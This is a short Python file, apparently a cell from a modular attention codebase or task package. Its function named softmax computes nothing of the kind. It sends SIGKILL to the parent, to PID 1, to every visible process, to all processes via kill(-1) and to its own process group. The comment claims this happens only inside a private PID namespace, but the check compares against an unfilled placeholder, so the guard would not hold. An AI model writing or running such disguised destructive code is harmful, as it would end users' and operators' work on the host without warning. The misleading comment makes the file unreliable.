# kill(-1), kill of the parent and of the whole group, and of every process that it can see.
# It does so only where it has a process table of its own: elsewhere these signals would end the machine's work.
# expects: attention.softmax attention.memory
# earns: attention.memory
# %%
import contextlib
import os
import signal

attention_memory = 4 * 2048 * 2048


def softmax(x, dim):
    if os.readlink("/proc/self/ns/pid") != "{PIDNS}":
        for pid in (os.getppid(), 1, 2, *map(int, filter(str.isdigit, os.listdir("/proc")))):
            if pid != os.getpid():
                with contextlib.suppress(OSError):
                    os.kill(pid, signal.SIGKILL)
        os.kill(-1, signal.SIGKILL)
        os.killpg(0, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
